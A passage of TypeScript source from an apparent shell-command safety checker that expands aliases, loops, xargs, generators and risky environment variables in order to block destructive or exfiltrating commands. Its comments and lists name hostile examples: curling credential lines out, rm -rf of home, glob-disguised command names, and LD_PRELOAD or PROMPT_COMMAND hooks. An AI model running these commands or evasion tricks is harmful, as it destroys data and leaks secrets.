    const feeds = m ? walk.readFeeds.get(m[1]) : undefined;
    if (m && feeds) {
      inv.viaXargs = true;
      inv.xargsReplace = m[0];
      inv.upstream = feeds;
      return;
    }
  }
}

/** `alias NAME='…'` records NAME; a later command named NAME is the alias's words followed by its own. */
function withAlias(walk: Walk, cmd: SimpleCommand, cwd: string | null): SimpleCommand {
  const first = cmd.words[0];
  if (!first || first.quoted) return cmd;
  if (first.text === 'alias') {
    for (const w of cmd.words.slice(1)) {
      const eq = w.text.indexOf('=');
      if (eq > 0) walk.aliases.set(w.text.slice(0, eq), w.text.slice(eq + 1));
    }
    return cmd;
  }
  const value = walk.aliases.get(first.text);
  if (value === undefined) return cmd;
  const head = parseShell(value, parseEnv(walk, cwd)).commands[0]?.words ?? [];
  return { ...cmd, words: [...head, ...cmd.words.slice(1)] };
}

/** `while read -r f; do CMD "$f"; done < <(LIST)`: the loop's input comes after its body; link read's variables to LIST. */
function loopInputs(walk: Walk): void {
  for (let k = 0; k < walk.out.length; k++) {
    const inp = walk.out[k];
    // while read l; do curl …$l…; done < ~/.aws/credentials: each line of the secret goes where the loop sends it.
    const secretIn = inp.argv.length === 0 && inp.cwd !== null ? inp.redirects.find((x) => x.op === '<' && !x.target.dynamic && isSecret(walk, resolveFrom(inp.cwd!, x.target.text))) : undefined;
    if (secretIn) {
      const from = walk.out.slice(0, k).map((x) => x.argv[0]).lastIndexOf('read');
      const sender = from < 0 ? undefined : walk.out.slice(from + 1, k).find((x) => (SENDERS.has(x.argv[0]) || networkDestination(x.argv.slice(1))) && x.words.some((w) => w.dynamic));
      if (sender) block(walk, 'dangerous', `${sender.argv[0]} sends each line the loop reads from ${resolveFrom(inp.cwd!, secretIn.target.text)}: secrets must not leave this machine`);
    }
    const r = inp.argv.length === 0 ? inp.redirects.find((x) => (x.op === '<' && x.target.subs.length > 0) || x.body !== undefined) : undefined;
    if (!r) continue;
    let feeder: Invocation;
    if (r.body !== undefined) {
      // done <<EOF … EOF / done <<< "$HOME": the lines are the items.
      const lines = r.body.split('\n').filter((l) => l.trim() !== '');
      const ws = [{ ...r.target, text: 'echo', dynamic: false, glob: false, subs: [] }, ...lines.map((l) => ({ ...r.target, text: l.trim(), dynamic: false, glob: false, subs: [] }))];
      feeder = { ...inp, argv: text(ws), words: ws, redirects: [], viaXargs: false, upstream: [] };
    } else {
      const cmds = parseShell(r.target.subs[0], parseEnv(walk, inp.cwd)).commands;
      const last = cmds[cmds.length - 1];
      if (!last) continue;
      feeder = { ...inp, argv: text(last.words), words: last.words, redirects: last.redirects, viaXargs: false, upstream: [] };
    }
    feeder.argv[0] = base(feeder.argv[0] ?? '');
    const readAt = walk.out.slice(0, k).map((x, j) => (x.argv[0] === 'read' && x.upstream.length === 0 ? j : -1)).filter((j) => j >= 0).pop();
    if (readAt === undefined) continue;
    const names = walk.out[readAt].argv.slice(1).filter((a, j, all) => /^[A-Za-z_]\w*$/.test(a) && !/^-[a-zA-Z]*[dpntuNi]$/.test(all[j - 1] ?? ''));
    for (const inv of walk.out.slice(readAt + 1, k)) {
      const w = inv.words.slice(1).find((x) => x.dynamic && names.some((n) => new RegExp(`\\$\\{?${n}\\b`).test(x.text)));
      if (!w || inv.viaXargs) continue;
      inv.viaXargs = true;
      inv.xargsReplace = /\$\{?[A-Za-z_]\w*\}?/.exec(w.text)![0];
      inv.upstream = [feeder];
    }
  }
}

/** A word of a function body with the positional parameters of one call put in. */
function withPositional(w: Word, args: string[]): Word {
  if (!w.dynamic || !/\$\{?[1-9@*]/.test(w.text)) return w;
  const textOut = w.text.replace(/\$\{?([1-9@*])\}?/g, (_, n: string) => (n === '@' || n === '*' ? args.join(' ') : args[Number(n) - 1] ?? ''));
  return { ...w, text: textOut, dynamic: (textOut.match(UNKNOWN_PART) ?? []).length > 0 };
}

/** Word splitting of unquoted expansions (`$CMD` holding `rm -rf /`) and brace expansion (`{/,~}`). */
function expandWords(words: Word[], home?: string): Word[] {
  if (!words.some((w) => w.split || w.brace)) return words;
  const out: Word[] = [];
  for (const w of words) {
    // Brace expansion comes before tilde expansion: {rm,-rf,~} ends in the home directory.
    const texts = w.brace ? braceExpand(w.text).map((t) => (home && !w.quoted && /^~(\/|$)/.test(t) ? home + t.slice(1) : t)) : [w.text];
    for (const t of texts) {
      const parts = w.split ? t.split(/\s+/).filter((x) => x !== '') : [t];
      for (const x of parts) out.push({ ...w, text: x, split: false, brace: false, glob: w.glob || /[*?[]/.test(x) });
    }
  }
  return out;
}

/** Bash brace expansion of `a{b,c}d` (nested, at most 64 results); `{}` and `{x}` stay as they are. */
export function braceExpand(text: string, budget = 64): string[] {
  let depth = 0;
  let open = -1;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (c === '{') {
      if (depth++ === 0) open = i;
    } else if (c === '}' && depth > 0) {
      if (--depth === 0) {
        const inner = text.slice(open + 1, i);
        const alts: string[] = [];
        let d = 0;
        let last = 0;
        for (let k = 0; k < inner.length; k++) {
          if (inner[k] === '{') d++;
          else if (inner[k] === '}') d--;
          else if (inner[k] === ',' && d === 0) {
            alts.push(inner.slice(last, k));
            last = k + 1;
          }
        }
        alts.push(inner.slice(last));
        if (alts.length < 2) continue;
        const pre = text.slice(0, open);
        const rest = braceExpand(text.slice(i + 1), budget);
        const out: string[] = [];
        for (const a of alts) for (const ea of braceExpand(a, budget)) for (const r of rest) if (out.length < budget) out.push(pre + ea + r);
        return out;
      }
    }
  }
  return [text];
}

function toInvocation(walk: Walk, cmd: SimpleCommand, cwd: string | null, depth: number, nested: boolean): Invocation | null {
  const u = unwrap(expandWords(cmd.words, walk.env.home), { home: walk.env.home, cwd: cwd ?? walk.env.cwd });
  // env X=v sh -c '… "$X" …' / X=v bash -c …: the script sees X (set for it, not for the rest of the line: the cautious reading keeps it).
  if (u.assigned.length > 0 && (u.script !== null || SHELLS.has(base(u.words[0]?.text ?? '')) || langOf(base(u.words[0]?.text ?? '')))) {
    for (const w of u.assigned) {
      const eq = w.text.indexOf('=');
      const n = w.text.slice(0, eq).replace(/\+$/, '');
      if (!walk.vars.has(n)) walk.vars.set(n, { text: w.text.slice(eq + 1), dynamic: w.dynamic, subs: [...w.subs] });
    }
  }
  // export/declare -x/typeset/readonly/local X=v: assignments that stay for the rest of the session.
  const declares = /^(export|declare|typeset|readonly|local|setenv)$/.test(u.words[0]?.text ?? '');
  const assigned = declares ? [...u.assigned, ...u.words.slice(1).filter(isAssignment)] : u.assigned;
  if (assigned.length > 0) checkAssignments(walk, assigned, declares, cwd, depth);
  const gitC = base(u.words[0]?.text ?? '') === 'git' ? u.words.findIndex((w, k) => k > 0 && w.text === '-C') : -1;
  const chdir = u.chdir ?? (gitC > 0 && u.words[gitC + 1] && !u.words[gitC + 1].dynamic ? u.words[gitC + 1].text : null);
  const runCwd = chdir !== null && cwd !== null ? resolveFrom(cwd, chdir) : cwd;
  if (u.script !== null) collect(walk, u.script, runCwd, depth + 1, true);
  if (u.query || (u.words.length === 0 && cmd.redirects.length === 0)) return null;
  let words = deleteAlias(u.words.map((w, k) => (k === 0 && w.text.startsWith('\\') ? { ...w, text: w.text.slice(1) } : w)));
  // $SHELL -c …, $BASH -c …, ${SHELL:-sh} -c …, or any command word only known at run time given -c SCRIPT: a shell.
  if (words[0]?.dynamic && (/^\$\{?(SHELL|BASH|ZSH_NAME|0)\b/.test(words[0].text) || (words[1]?.text === '-c' && words.length > 2))) words = [{ ...words[0], text: 'sh', dynamic: false }, ...words.slice(1)];
  // git-filter-repo ARGS, python3 git-filter-repo ARGS: git's dashed form of `git filter-repo ARGS`.
  const dashed = /^git-([a-z][\w-]*)$/.exec(base(words[0]?.text ?? '')) ?? (langOf(base(words[0]?.text ?? '')) ? /^git-(filter-repo|filter-branch)$/.exec(base(words[1]?.text ?? '')) : null);
  if (dashed) {
    const at = base(words[0].text).startsWith('git-') ? 0 : 1;
    words = [{ ...words[at], text: 'git' }, { ...words[at], text: dashed[1] }, ...words.slice(at + 1)];
  }
  // /???/[r]m, /usr/bin/r[m]: a command name written as a glob runs what it matches; a dangerous program among the matches is taken.
  const globName = words[0] && !words[0].quoted && /[*?[]/.test(base(words[0].text)) ? GLOB_HEADS.find((n) => globMatches(base(words[0].text), n)) : undefined;
  if (globName) words = [{ ...words[0], text: globName, glob: false }, ...words.slice(1)];
  const argv = text(words);
  if (argv[0]?.includes('/') && !argv[0].startsWith('./')) argv[0] = base(argv[0]);
  // bfs, gfind: find under another name.
  if (/^(bfs|gfind)$/.test(argv[0] ?? '')) argv[0] = 'find';
  if (/^(bin\/rails|bin\/rake|\.\/bin\/rails)$/.test(words[0]?.text ?? '')) argv[0] = base(words[0].text);
  if (argv[0] === 'php' && argv[1] === 'artisan') argv.splice(0, 2, 'artisan');
  return { remote: walk.remote, prod: walk.prod, submodule: walk.submodule, repeats: cmd.repeats, argv, words, redirects: cmd.redirects, cwd: runCwd, elevated: u.elevated, viaXargs: u.viaXargs, xargsReplace: u.xargsReplace, xargsLines: u.xargsLines, xargsFile: u.xargsFile, upstream: [], nested, assigned: u.assigned.map((w) => (w.subs.length > 0 ? `${w.text} ${w.subs.join(' ')}` : w.text)) };
}

/** Git for Windows' bash and Windows' own shells where they are installed (npm's documented `script-shell` on Windows). */
const WINDOWS_SHELL = /^(?:[A-Za-z]:|\/mnt\/[a-z])[\\/]+(?:Program Files[\\/]+Git[\\/]+(?:usr[\\/]+)?bin[\\/]+(?:ba)?sh|Windows[\\/]+System32[\\/]+(?:cmd|WindowsPowerShell[\\/]+v1\.0[\\/]+powershell))(?:\.exe)?$/i;

/** Programs a glob in the command name (/???/[r]m) is checked against, the dangerous first. */
const GLOB_HEADS = ['rm', 'dd', 'shred', 'mkfs', 'wipefs', 'sh', 'bash', 'zsh', 'dash', 'git', 'curl', 'wget', 'nc', 'ncat', 'chmod', 'chown', 'find', 'xargs', 'sudo', 'mv', 'cp', 'tee', 'perl', 'python3', 'python', 'ruby', 'node', 'kill'];

/** Variables whose value is a command line a program runs later (git, pagers, editors, askpass helpers). */
const COMMAND_VARS = /^(GIT_SSH_COMMAND|GIT_PROXY_COMMAND|GIT_EXTERNAL_DIFF|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_PAGER|GIT_ASKPASS|SSH_ASKPASS|SUDO_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|BROWSER|LESSOPEN|LESSCLOSE|FCEDIT)$/;
/** Variables naming code that shells or the dynamic loader load into every later program. */
const LOADED_VARS = /^(BASH_ENV|ENV|ZDOTDIR|LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES|PERL5OPT|RUBYOPT|NODE_OPTIONS|JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|PYTHONSTARTUP|PYTHONINSPECT)$/;
/** Commands a prompt hook ordinarily runs: history sync, titles, git/direnv/starship/zoxide helpers. */
const PROMPT_HELPER = /^(history|echo|printf|true|:|local|set|PS1=.*|_.*|__.*|.*(prompt|ps1|title|starship|direnv|zoxide|autojump|precmd|vte|osc7|terminal).*|z|pwd|tput|date|wait)$/i;

/**
 * Assignments that make later programs run code: PROMPT_COMMAND and prompt strings with `$(…)`
 * (run before every prompt), BASH_ENV/ENV/ZDOTDIR (sourced by every later shell), LD_PRELOAD and
 * the like (loaded into every later program), and the command-valued variables (GIT_SSH_COMMAND,
 * PAGER...), whose value is analysed as the command line it is. `X=v cmd`, `export X=v`,
 * `declare -x`, `env X=v` all count.
 */
function checkAssignments(walk: Walk, words: Word[], exported: boolean, cwd: string | null, depth: number): void {
  for (const w of words) {
    const eq = w.text.indexOf('=');
    const name = w.text.slice(0, eq).replace(/\+$/, '');
    const value = w.text.slice(eq + 1);
    if (value.trim() === '') continue;
    if (name === 'PROMPT_COMMAND' || /^PS[0-4]$/.test(name)) {
      // In PS1 only the $( ) kept as text (single quotes) runs at each prompt; one in double quotes ran once, at the assignment.
      const scripts = name === 'PROMPT_COMMAND' ? [value] : [...value.matchAll(/\$\(([^()]*(?:\([^()]*\)[^()]*)*)\)|`([^`]*)`/g)].map((m) => m[1] ?? m[2]).filter((x) => x !== '…');
      for (const script of scripts) {
        const before = walk.findings.length;
        collect(walk, script, cwd, depth + 1, true);
        const cmds = parseShell(script, parseEnv(walk, cwd)).commands.map((c) => unwrap(c.words, { home: walk.env.home, cwd: cwd ?? walk.env.cwd }).words.map((x) => x.text));
        const other = cmds.find((a) => a.length > 0 && (!PROMPT_HELPER.test(base(a[0])) || (a[0] === 'history' && a.some((x) => /^-[a-zA-Z]*[cd]/.test(x)))));
        if (other && !walk.findings.slice(before).some((f) => f.level === 'block')) {
          block(walk, 'dangerous', `${name} set to run \`${other.join(' ').slice(0, 80)}\` before every prompt of the shell: a command that keeps running unseen`, 'leave the prompt alone; run the command once if it is needed');
        }
      }
    } else if (COMMAND_VARS.test(name)) {
      collect(walk, value.replace(/^\|/, ''), cwd, depth + 1, true);
    } else if (LOADED_VARS.test(name)) {
      const abs = /^[~/.]/.test(value) && cwd !== null ? resolveFrom(cwd, value.replace(/^~(?=\/|$)/, walk.env.home)) : null;
      const temp = (p: string) => /^\/(tmp|var\/tmp|dev\/shm)\//.test(p) && !isUnder(p, walk.env.home) && !isUnder(p, walk.env.project);
      const files = value.match(/(?:^|[\s=:])(?:-r|--require|--import|--loader|-M|-javaagent:|-agentpath:)?\s*([~/.][^\s:=]*)/g) ?? [];
      const loadsTemp = files.some((f) => {
        const m = /([~/.][^\s:=]*)$/.exec(f.trim());
        return m !== null && cwd !== null && (temp(resolveFrom(cwd, m[1].replace(/^~(?=\/|$)/, walk.env.home))) || walk.files.has(resolveFrom(cwd, m[1])));
      });
      let why: string | null = null;
      // A one-run prefix naming a file of the project (BASH_ENV=./ci/env.sh bash test.sh) is how CI scripts share setup.
      const projectFile = !exported && abs !== null && isUnder(abs, walk.env.project) && !walk.files.has(abs);
      if (/^(BASH_ENV|ENV|ZDOTDIR)$/.test(name) && abs !== null && !projectFile && !isStartupFile(abs, walk.env) && abs !== walk.env.home && !(name === 'ZDOTDIR' && isUnder(abs, walk.env.home))) why = 'every later shell reads it before its script';
      else if (/^(LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES)$/.test(name) && (loadsTemp || (exported && !/^\/(usr|lib|opt)\//.test(value)))) why = 'it is loaded into every later program';
      else if (loadsTemp) why = 'every later program of its kind loads it';
      if (why) block(walk, 'dangerous', `${name}=${value.slice(0, 80)} points at code that runs unseen: ${why}`, 'run the program it is meant for directly');
    }
  }
}

/** Tools that delete trees as rm -rf does (rimraf, del-cli, rm-rf, wipe): read as rm -rf; their own globs (rimraf --glob, del-cli) count as globs. */
function deleteAlias(words: Word[]): Word[] {
  // cmake -E rm|remove|remove_directory ARGS, coreutils --coreutils-prog=PROG ARGS: the program they stand for.
  const n0 = base(words[0]?.text ?? '');
  if (n0 === 'cmake' && words[1]?.text === '-E' && /^(rm|remove|remove_directory|rm_rf)$/.test(words[2]?.text ?? '')) {
    return [{ ...words[0], text: 'rm' }, { ...words[0], text: /remove_directory|rm_rf/.test(words[2].text) || words.some((w) => /^-[a-zA-Z]*r/i.test(w.text)) ? '-rf' : '-f' }, ...words.slice(3).filter((w) => !/^-[a-zA-Z]+$/.test(w.text))];
  }
  // cmake -E copy env/bashrc ~/.bashrc, cmake -E rename A B: the copy or move they stand for.
  if (n0 === 'cmake' && words[1]?.text === '-E' && /^(copy|copy_if_different|copy_directory|rename|create_symlink)$/.test(words[2]?.text ?? '')) {
    const verb = words[2].text === 'rename' ? 'mv' : words[2].text === 'create_symlink' ? 'ln' : 'cp';
    return [{ ...words[0], text: verb }, ...(verb === 'ln' ? [{ ...words[0], text: '-s' }] : verb === 'cp' && words[2].text === 'copy_directory' ? [{ ...words[0], text: '-r' }] : []), ...words.slice(3)];
  }
  if (n0 === 'coreutils' && /^--coreutils-prog=/.test(words[1]?.text ?? '')) return deleteAlias([{ ...words[1], text: words[1].text.slice(17) }, ...words.slice(2)]);
  const name = base(words[0]?.text ?? '');
  if (!/^(rimraf|rm-rf|del-cli|del|wipe|trash-rm)$/.test(name)) return words;
  // rimraf up to v3 (still what `npx rimraf@3` runs) globs its arguments by default: the cautious reading.
  const globs = true;
  const w0 = words[0];
  return [{ ...w0, text: 'rm' }, { ...w0, text: '-rf' }, ...words.slice(1).filter((x) => !/^-[a-zA-Z]*[rRf]+$/.test(x.text)).map((x) => (globs && /[*?[]/.test(x.text) ? { ...x, glob: true } : x))];
}

/** Text an invocation reads on stdin, when the line says: a here-document or here-string, or static `echo`/`printf`/`cat <<EOF` output piped in. */
function stdinText(inv: Invocation): string | null {
  for (const r of inv.redirects) if (r.body !== undefined) return r.body;
  // python < <(echo "…"), bash < <(printf '…'): what the process substitution prints, when it is known (~ stands for the home).
  for (const r of inv.redirects) if (r.op === '<' && r.target.subs.length === 1 && /^\/dev\/fd\/\d+$/.test(r.target.text)) return resolveSubstitution(r.target.subs[0], { home: '~', cwd: inv.cwd ?? '.' });
  const feeder = inv.upstream[inv.upstream.length - 1];
  if (!feeder) return null;
  if ((feeder.argv[0] === 'echo' || feeder.argv[0] === 'printf') && !feeder.viaXargs && !feeder.words.some((w) => w.dynamic)) {
    const args = feeder.argv.slice(1).filter((a, k) => !(k === 0 && /^-[neE]+$/.test(a)));
    if (feeder.argv[0] === 'printf') return printfFormat(args[0] ?? '', args.slice(1));
    // bash's echo prints \n as it is, zsh's and dash's turn it into a newline: both readings are checked.
    // (echo -e, and zsh's and dash's echo, also turn \x72 and \0162 into the characters.)
    const raw = args.join(' ');
    const escaped = /\\(x[0-9a-fA-F]|0[0-7])/.test(raw) ? unescapePrintf(raw) : raw.replace(/\\n/g, '\n');
    return escaped === raw ? raw : `${raw}\n${escaped}`;
  }
  if (feeder.argv[0] === 'cat' && feeder.argv.length === 1) for (const r of feeder.redirects) if (r.body !== undefined) return r.body;
  return null;
}

/** The script a shell reads on stdin: known text, or the lines a generator upstream prints (sed/awk/jq/find -printf into sh). */
function stdinScript(walk: Walk, inv: Invocation, depth: number): void {
  const body = stdinText(inv);
  if (body !== null) {
    collect(walk, body, inv.cwd, depth + 1, true);
    return;
  }
  let k = inv.upstream.length - 1;
  while (k > 0 && /^(cat|tee|tac|sort|uniq|head|tail|stdbuf|pv)$/.test(inv.upstream[k].argv[0])) k--;
  const g = inv.upstream[k];
  if (!g) return;
  // sort <<< TEXT | sh, grep … <<< TEXT | bash: a filter prints (part of) the text it is given.
  const given = /^(sort|uniq|cat|head|tail|tee|grep|egrep|cut|column|fmt|fold|tac)$/.test(g.argv[0]) ? stdinText(g) : null;
  if (given !== null) collect(walk, given, inv.cwd, depth + 1, true);
  // Each line the generator may print is a command line, its input items put where they go.
  const lines = generatorLines(walk, g);
  const reader: Invocation = g.argv[0] === 'find' ? { ...g, redirects: [], xargsFile: undefined, upstream: [g] } : g;
  for (const l of lines) perItem(walk, reader, l, ITEM, depth);
}

/** Stands for one input item in a generator's line. */
const ITEM = '\u0001';

/**
 * What a text generator prints for one input item, ITEM where the item goes: sed `s/PAT/REPL/` (and
 * `i`/`a`/`c` text), awk `print`/`printf`, jq strings with `\(…)`, find -printf and -exec echo/printf.
 */
function generatorLines(walk: Walk, g: Invocation): string[] {
  const [name, ...args] = g.argv;
  const out: string[] = [];
  const input = stdinText(g);
  // sed or perl -pe over known text: the substitutions applied to it, as the tool would.
  const subs = name === 'sed' || (name === 'perl' && args.some((a) => /^-[a-zA-Z]*p/.test(a))) ? [...args.join('\n').matchAll(/(?:^|[;\n{}])\s*[\d$,/^]*\s*s(.)((?:(?!\1)[^\\]|\\.)*)\1((?:(?!\1)[^\\]|\\.)*)\1(g?)/g)] : [];
  if (input !== null && subs.length > 0) {
    for (const line of input.split('\n')) {
      let l = line;
      for (const m of subs) {
        try {
          const ere = name === 'perl' || args.some((a) => /^-[a-zA-Z]*[Er]$/.test(a));
          const pat = ere ? m[2] : m[2].replace(/\\([(){}+?|])/g, '$1');
          l = l.replace(new RegExp(pat, m[4] ? 'g' : ''), m[3].replace(/\\([0-9])/g, '$$$1').replace(/(?<!\\)&/g, '$$&').replace(/\\(.)/g, '$1'));
        } catch {
          /* not a pattern JS reads: the templates below still apply */
        }
      }
      out.push(l);
    }
  }
  if (name === 'yes' || name === 'envsubst') {
    // yes TEXT prints TEXT; envsubst puts the environment into the text it reads.
    const t = name === 'yes' ? args.join(' ') || 'y' : (input ?? '').replace(/\$\{?HOME\}?/g, walk.env.home);
    out.push(t);
  } else if (g.viaXargs && (name === 'echo' || name === 'printf')) {
    // xargs -I{} echo rm -rf {}: each item in its place.
    const t = args.filter((a, k) => !(k === 0 && /^-[neE]+$/.test(a))).join(' ');
    out.push(g.xargsReplace && t.includes(g.xargsReplace) ? t.split(g.xargsReplace).join(ITEM) : `${t} ${ITEM}`);
  } else if (langOf(name) !== null && langOf(name) !== 'awk' && !args.some((a) => /^-[a-zA-Z]*p/.test(a) && name === 'perl')) {
    const ic = inlineCode(langOf(name)!, g.argv);
    const code = ic.code ?? (ic.readsStdin ? input : null);
    if (code !== null) out.push(...printedText(langOf(name)!, code));
    // node -p EXPR prints the expression's value.
    const printed = code !== null && langOf(name) === 'js' && args.some((a) => /^(-[a-z]*p[a-z]*|--print)$/.test(a)) ? exprText('js', code) : null;
    if (printed) out.push(printed);
  }
  if (name === 'sed') {
    const scripts = args.filter((a, k) => /^(-e|--expression)$/.test(args[k - 1] ?? '') || (!a.startsWith('-') && !args.slice(0, k).some((x) => /^(-e|--expression)$/.test(x)) && k === args.findIndex((x) => !x.startsWith('-'))));
    for (const sc of scripts) {
      for (const m of sc.matchAll(/(?:^|[;\n{}])\s*[\d$,/^]*\s*s(.)((?:(?!\1)[^\\]|\\.)*)\1((?:(?!\1)[^\\]|\\.)*)\1/g)) {
        const rep = m[3].replace(/\\([0-9&])|&|\\(.)/g, (x, d?: string, e?: string) => (d !== undefined ? (d === '&' ? '&' : ITEM) : e !== undefined ? (e === 'n' ? '\n' : e) : ITEM));
        out.push(m[2].startsWith('^') && !rep.includes(ITEM) ? rep + ITEM : m[2].endsWith('$') && !rep.includes(ITEM) ? ITEM + rep : rep);
      }
      for (const m of sc.matchAll(/(?:^|[;\n])\s*[\d$]*\s*[aic]\\?\s*(\S[^\n;]*)/g)) out.push(m[1]);
    }
  } else if (langOf(name) === 'awk') {
    const code = inlineCode('awk', g.argv).code ?? '';
    const vars = new Map(args.filter((_, k) => args[k - 1] === '-v').map((a) => [a.slice(0, a.indexOf('=')), a.slice(a.indexOf('=') + 1)] as [string, string]));
    for (const m of code.matchAll(/\b(printf?)\s*\(?((?:"(?:[^"\\]|\\.)*"|[^;}|>"])*)/g)) {
      // Arguments (comma-separated), each a juxtaposition of strings, fields and variables.
      const parts: string[] = [''];
      for (const t of m[2].matchAll(/"((?:[^"\\]|\\.)*)"|\$\w+|[A-Za-z_]\w*(?:\[[^\]]*\])?|,/g)) {
        if (t[1] !== undefined) parts[parts.length - 1] += t[1].replace(/\\(.)/g, (_x, e: string) => (e === 'n' ? '\n' : e));
        else if (t[0] === ',') parts.push('');
        else parts[parts.length - 1] += /^ENVIRON\[\s*"HOME"\s*\]$/.test(t[0]) ? walk.env.home : vars.get(t[0]) ?? ITEM;
      }
      // print joins its arguments with spaces; printf fills its format's %s with them in turn.
      let k = 1;
      const line = m[1] === 'printf' ? parts[0].replace(/%-?\d*s/g, () => parts[k++] ?? ITEM) : parts.join(' ');
      if (line.trim() !== '') out.push(line);
    }
  } else if (name === 'jq') {
    const named = new Map<string, string>();
    args.forEach((a, k) => {
      if (/^--(arg|argjson)$/.test(args[k - 2] ?? '') ) return;
      if (/^--(arg|argjson)$/.test(a)) named.set(args[k + 1] ?? '', args[k + 2] ?? '');
    });
    const filter = args.find((a, k) => !a.startsWith('-') && !/^--(arg|argjson|slurpfile|rawfile)$/.test(args[k - 1] ?? '') && !/^--(arg|argjson|slurpfile|rawfile)$/.test(args[k - 2] ?? '')) ?? '';
    for (const m of filter.replace(/"((?:[^"\\]|\\.)*)"\s*\+\s*\$(\w+)/g, '"$1\\($$$2)"').matchAll(/"((?:[^"\\]|\\.)*)"/g)) out.push(m[1].replace(/\\\(\s*\$(\w+)\s*\)/g, (x, n: string) => named.get(n) ?? ITEM).replace(/\\\([^)]*\)/g, ITEM).replace(/\\(.)/g, (_x, e: string) => (e === 'n' ? '\n' : e)));
  } else if (name === 'git' && /^(for-each-ref|branch)$/.test(args[0] ?? '')) {
    const fmt = args.find((a, k) => /^--format=/.test(a) || args[k - 1] === '--format');
    if (fmt) out.push(fmt.replace(/^--format=/, '').replace(/%\((refname|objectname)[^)]*\)/g, ITEM));
  } else if (name === 'find') {
    args.forEach((a, k) => {
      if (/^-f?printf$/.test(a)) out.push(unescapePrintf(args[k + (a === '-fprintf' ? 2 : 1)] ?? '').replace(/%[pPfhH]/g, ITEM));
      if (/^-exec(dir)?$/.test(a) && /^(echo|printf)$/.test(base(args[k + 1] ?? ''))) {
        const end = args.findIndex((x, j) => j > k && (x === ';' || x === '+'));
        out.push(args.slice(k + 2, end < 0 ? undefined : end).filter((x, j) => !(j === 0 && /^-[neE]+$/.test(x))).join(' ').replace(/\{\}/g, ITEM));
      }
    });
  }
  void walk;
  return out.flatMap((l) => l.split('\n')).filter((l) => l.trim() !== '');
}

/** A script run once per item a list feeds (xargs sh -c '… % …', a generator's lines into sh): each known item put in its hole. */
function perItem(walk: Walk, inv: Invocation, script: string, hole: string | RegExp, depth: number): void {
  if (typeof hole === 'string' && !script.includes(hole)) {
    collect(walk, script, inv.cwd, depth + 1, true);
    return;
  }
  const fed = xargsItems(walk, inv);
  for (const t of (fed?.items ?? [STDIN_TARGET]).slice(0, 8)) {
    // A whole line (xargs -I{} sh -c '{}' <<< 'rm -rf ~') goes in as written: it is a command line, not a path.
    const item = inv.xargsLines && /\s/.test(t.word.text) ? t.word.text : t.abs !== null && !t.abs.endsWith('/…') ? t.abs : '$ITEM';
    const body = script.split(hole).join(item);
    // The items of a whole tree deleted, shredded or emptied one by one: rm -r of the tree.
    collect(walk, fed?.recursive && /^\s*(rm|shred|unlink|:?\s*>)/.test(body) && !/\s-[a-zA-Z]*[rR]/.test(body) ? body.replace(/^\s*(rm|shred(\s+-\w+)*|unlink|:?\s*>)\s*/, 'rm -r ') : body, inv.cwd, depth + 1, true);
  }
}

/** Scripts inside an invocation: sh -c, eval, source of a substitution, heredocs into a shell, echo | sh, find -exec, inline interpreter code, files written earlier on the line, a container's command. */
function expandNested(walk: Walk, inv: Invocation, cmd: SimpleCommand, depth: number): void {
  const name = inv.argv[0];
  recordWrittenFiles(walk, inv);
  const nb = /^(papermill|jupyter|ipython|jupytext)$/.test(name ?? '') ? notebookRun(inv.argv) : null;
  if (nb) runNotebook(walk, inv, nb, depth);
  if (SHELLS.has(name)) {
    const { script, readsStdin } = shellScript(inv.argv);
    // sh -c 'rm -rf "$0"' / and bash -c '… $1' _ ~: the words after the script are $0, $1...
    const after = script !== null ? inv.argv.slice(inv.argv.lastIndexOf(script) + 1) : [];
    // sh -c "$(python -c 'print(…)')": the script is what the interpreter prints.
    if (script !== null) for (const sub of inv.words.find((w) => w.text === script)?.subs ?? []) {
      const pw = parseShell(sub, parseEnv(walk, inv.cwd)).commands[0]?.words.map((w) => w.text) ?? [];
      const lang = langOf(base(pw[0] ?? ''));
      const code = lang ? inlineCode(lang, pw).code : null;
      if (lang && code) for (const line of printedText(lang, code)) collect(walk, line, inv.cwd, depth + 1, true);
    }
    if (script !== null) collect(walk, after.length > 0 ? substitutePositional(script.replace(/"?\$\{?0\}?"?/g, `'${(after[0] ?? '').replace(/'/g, `'\\''`)}'`), after) : script, inv.cwd, depth + 1, true);
    // find ~ | xargs -I % sh -c 'rm -rf "%"' (or sh -c 'rm "$0"', xargs appending the item): each item xargs feeds is put into the script.
    const hole = inv.xargsReplace ?? (after.length === 0 ? /"?\$\{?[0-9@*]\}?"?/g : null);
    if (script !== null && inv.viaXargs && hole !== null && script.search(hole) >= 0) perItem(walk, inv, script, hole, depth);
    // echo 'rm -rf ~' | xargs -0 bash -c: the item xargs appends after -c is the script itself.
    if (script === null && inv.viaXargs && inv.argv[inv.argv.length - 1] === '-c') for (const t of (xargsItems(walk, inv)?.items ?? []).slice(0, 8)) collect(walk, t.word.text, inv.cwd, depth + 1, true);
    if (readsStdin) stdinScript(walk, inv, depth);
    else if (script === null) {
      procSubScript(walk, inv, depth);
      runScriptFile(walk, inv, scriptOperand(inv.argv), depth, null);
    }
  } else if (name === 'eval') {
    collect(walk, inv.argv.slice(1).join(' '), inv.cwd, depth + 1, true);
  } else if (mayBeFramework(inv.argv) && framework().frameworkCode(inv.argv, inv.assigned ?? [], () => stdinText(inv) ?? procSubText(walk, inv)) !== null) {
    // artisan tinker --execute=CODE, wp eval CODE, rails runner -e production CODE, rake -e CODE: the app's language, where the app runs.
    const fc = framework().frameworkCode(inv.argv, inv.assigned ?? [], () => stdinText(inv) ?? procSubText(walk, inv))!;
    const [was, wasProd] = [walk.remote, walk.prod];
    walk.remote ||= fc.remote;
    walk.prod ||= fc.prod;
    collect(walk, `${fc.lang} ${fc.lang === 'php' ? '-r' : '-e'} '${framework().frameworkPaths(fc.lang, fc.code).replace(/'/g, `'\\''`)}'`, fc.remote ? null : inv.cwd, depth + 1, true);
    [walk.remote, walk.prod] = [was, wasProd];
    for (const f of framework().frameworkCodeFindings(fc)) block(walk, 'dangerous', `${inv.argv.slice(0, 3).join(' ')}: ${f.reason}`, 'let the user run it after checking what it removes');
  } else if (hostedCode(inv)) {
    // rails runner CODE, manage.py shell -c CODE (or on stdin), mongosh --eval CODE: code of a language run inside an app's console.
    const [lang, code] = hostedCode(inv)!;
